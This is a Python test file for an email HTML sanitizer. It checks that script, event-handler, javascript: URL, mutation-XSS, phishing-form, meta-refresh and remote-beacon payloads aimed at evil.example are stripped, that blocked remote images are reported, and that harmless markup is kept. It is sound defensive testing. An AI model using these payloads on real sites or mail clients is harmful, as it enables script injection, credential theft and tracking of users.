"""HTML of a stranger shows his mail and does nothing else."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.channels.email.body.safe_html import safe_html

FILES = {"logo@x": "/files/1"}


def shown(html: str) -> str:
    return safe_html(html, files=FILES).html


@pytest.mark.parametrize(
    "evil",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
        "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<form action=//evil.example><input name=password><button>go</button></form>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<base href=//evil.example/>",
        "<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example>",
        "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/x.css'</style>",
        "<div style='background:url(//evil.example/1.gif)'>x</div>",
        "<div style='background-color:u\\72l(//evil.example/1.gif)'>x</div>",
        "<td background='//evil.example/1.gif'>x</td>",
        "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
        "<video poster=//evil.example/1.gif><source src=//evil.example/a.mp4></video><audio src=//evil.example>",
        "<img srcset='//evil.example/1.gif 2x'>",
        "<a href='//evil.example' ping='//evil.example'>x</a>",
    ],
)
def test_nothing_runs_and_nobody_is_asked(evil: str) -> None:
    safe = shown(f"<p>before</p>{evil}<p>after</p>")
    assert "before" in safe
    assert not re.search(
        r"evil\.example|javascript|alert|onerror|onload|position|<(script|svg|form|style|iframe|meta)",
        safe,
        re.IGNORECASE,
    )


def test_pictures_of_the_mail_are_shown_and_remote_ones_named() -> None:
    got = safe_html(
        '<img src="cid:logo@x" alt="Tea"><img src="cid:other"><img src="https://spy.example/1.gif">'
        '<img src="data:image/png;base64,AA">',
        files=FILES,
    )
    assert got.html == '<img src="/files/1" alt="Tea"><img><img><img>'
    assert got.blocked == ("https://spy.example/1.gif",)


def test_a_picture_that_an_agent_wants_to_see_is_ours() -> None:
    wanted = "https://shop.example/kettle.png"
    got = safe_html(f'<img src="{wanted}">', files={wanted: "/files/2"}, pictures=frozenset({wanted}))
    assert got.html == '<img src="/files/2">'
    assert got.blocked == ()


def test_what_is_harmless_stays() -> None:
    html = (
        '<p style="color:red">a <b>b</b> <a href="https://x.example/">c</a></p><table><tbody><tr><td colspan="2">d</td>'
    )
    html += "</tr></tbody></table>"
    assert shown(html) == html.replace('">c', '" target="_blank" rel="noopener noreferrer nofollow">c')


@given(html=st.text(alphabet=st.sampled_from("<>/=&;'\" abimgsrcohrefnl:()\n-!"), max_size=200))
def test_it_is_a_fixed_point(html: str) -> None:
    once = shown(html)
    assert shown(once) == once
